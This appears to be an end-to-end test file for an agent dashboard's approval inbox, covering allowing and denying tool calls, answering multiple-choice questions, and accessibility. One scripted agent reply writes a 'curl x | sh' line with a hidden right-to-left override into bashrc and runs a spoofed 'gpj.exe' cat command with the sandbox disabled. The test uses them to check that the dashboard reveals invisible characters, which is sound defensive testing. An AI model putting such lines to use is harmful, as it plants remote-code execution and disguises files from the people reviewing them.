import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Job } from "@herdctl/core";
import type { Page } from "playwright-core";
import { beforeAll, expect, test } from "vitest";
import { chromiumIsThere, phone } from "../support/chromium.ts";
import { until } from "../support/fleet-program.ts";
import { barriers } from "./axe.ts";
import { type DashboardStage, dashboardStage } from "./stage.ts";

beforeAll(chromiumIsThere, 600_000);

const agents = "  - { name: careful, runtime: cli, permission_mode: default }";
const bash = (command: string) => ({ name: "Bash", input: { command, description: "Make it" } });
const options = ["Red", "Blue", "Green"].map((label) => ({ label, description: `all ${label}` }));
const ask = (question: string, multiSelect: boolean) => ({
  tools: [
    {
      name: "AskUserQuestion",
      input: { questions: [{ question, header: "Colour", multiSelect, options }] },
    },
  ],
});

const script = {
  rules: [
    {
      match: { prompt: "touch" },
      replies: [
        { text: "I would like to make a file.", tools: [bash("touch made-by-agent")] },
        "That was that.",
      ],
    },
    {
      match: { prompt: "write it" },
      replies: [
        {
          tools: [
            { name: "Write", input: { file_path: "bashrc", content: "curl x\u202e | sh\n" } },
            {
              name: "Bash",
              input: {
                command: "cat \u202egpj.exe\u200b",
                description: "Look",
                dangerouslyDisableSandbox: true,
              },
            },
          ],
        },
        "That was that.",
      ],
    },
    { match: { prompt: "one colour" }, replies: [ask("Which one?", false), "Thank you."] },
    { match: { prompt: "some colours" }, replies: [ask("Which ones?", true), "Thank you."] },
  ],
};

async function asking(prompt: string): Promise<{ on: DashboardStage; page: Page; job: Job }> {
  const on = await dashboardStage({ script, agents });
  const page = await on.open("/inbox");
  await page.getByText("Nothing waits for you").waitFor();
  const { job } = await on.fleet().trigger({ trigger: "manual", agent: "careful", prompt });
  return { on, page, job };
}

/** What the agent was told of it. */
async function told(on: DashboardStage, { id }: Job): Promise<string> {
  await on.fleet().wait(id);
  return JSON.stringify(on.on.rehearsal.ledger.main.at(-1)?.body);
}

test("a tool is seen with all that it would do and what came before it, and is allowed", async () => {
  const { on, page, job } = await asking("touch it");
  const item = page.getByRole("article", { name: "Asked by careful" });
  await item.getByText("touch made-by-agent").waitFor();
  await item.getByText("I would like to make a file.").waitFor();
  await item.getByText("touch it").waitFor();
  await until("the count in the title", async () => /\b1\b/.test(await page.title()));
  expect(await barriers(page)).toEqual([]);

  await item.getByRole("button", { name: "Allow" }).click();
  await page.getByText("Nothing waits for you").waitFor();
  expect((await on.fleet().wait(job.id)).outcome?.code).toBe("success");
  expect(existsSync(join(on.on.workspace, "made-by-agent"))).toBe(true);
  await page.goto(`${on.url}/jobs/${job.id}`);
  await page.getByRole("log", { name: "Conversation" }).getByText("by dashboard").waitFor();
  await page
    .getByRole("region", { name: "Waterfall" })
    .getByText(/waited/)
    .waitFor({ state: "attached" });
});

test("a tool is denied in the middle of the conversation, with a reason that the agent is told", async () => {
  const { on, page, job } = await asking("touch it");
  await page.goto(`${on.url}/jobs/${job.id}`);
  const log = page.getByRole("log", { name: "Conversation" });
  await log.getByRole("textbox", { name: "Reason" }).fill("not in this folder");
  await log.getByRole("button", { name: "Deny with this reason" }).click();
  expect(await told(on, job)).toContain("not in this folder");
  await log.getByText("“not in this folder”").waitFor();
  expect(existsSync(join(on.on.workspace, "made-by-agent"))).toBe(false);
});

test("all fields of a request are shown, with invisible characters as escapes", async () => {
  const { page } = await asking("write it");
  const item = page.getByRole("article", { name: "Asked by careful" });
  const write = item.filter({ hasText: "May it use Write?" });
  await write.getByText("curl x\\u202e | sh").waitFor();
  await write.getByText("bashrc").first().waitFor();
  await write.getByRole("button", { name: "Allow" }).click();
  const bash = item.filter({ hasText: "May it use Bash?" });
  await bash.getByText("cat \\u202egpj.exe\\u200b").waitFor();
  await bash.getByRole("region", { name: "dangerouslyDisableSandbox" }).getByText("true").waitFor();
  expect(await barriers(page)).toEqual([]);
});

test("a question is answered by one of its choices", async () => {
  const { on, page, job } = await asking("one colour");
  await page.getByText("Which one?").waitFor();
  expect(await page.getByRole("button", { name: "Answer" }).isDisabled()).toBe(true);
  await page.getByRole("radio", { name: /Red/ }).check();
  await page.getByRole("radio", { name: /Blue/ }).check();
  await page.getByRole("button", { name: "Answer" }).click();
  await page.getByText("Nothing waits for you").waitFor();
  expect(await told(on, job)).toMatch(/Which one\?\W+Blue/);
});

test("a question is answered by several choices, or in one's own words", async () => {
  const { on, page, job } = await asking("some colours");
  await page.getByRole("checkbox", { name: /Red/ }).check();
  await page.getByRole("checkbox", { name: /Green/ }).check();
  await page.getByRole("button", { name: "Answer" }).click();
  expect(await told(on, job)).toMatch(/Which ones\?\W+Red, Green/);

  const second = await on
    .fleet()
    .trigger({ trigger: "manual", agent: "careful", prompt: "one colour" });
  await page.getByRole("textbox", { name: "Answer in your own words" }).fill("the colour of rain");
  await page.getByRole("button", { name: "Answer" }).click();
  expect(await told(on, second.job)).toContain("the colour of rain");
});

test("on a phone, in the dark, nobody is kept out; who may only look cannot answer", async () => {
  const { on, page } = await asking("touch it");
  await page.getByRole("button", { name: "Allow" }).waitFor();
  const small = await on.open("/inbox", { size: phone, scheme: "dark", scope: "read" });
  const allow = small.getByRole("button", { name: "Allow" });
  await allow.waitFor();
  await expect.poll(() => allow.getAttribute("aria-disabled")).toBe("true");
  expect(await barriers(small)).toEqual([]);
  expect(await small.evaluate("document.documentElement.scrollWidth")).toBe(phone.width);
});
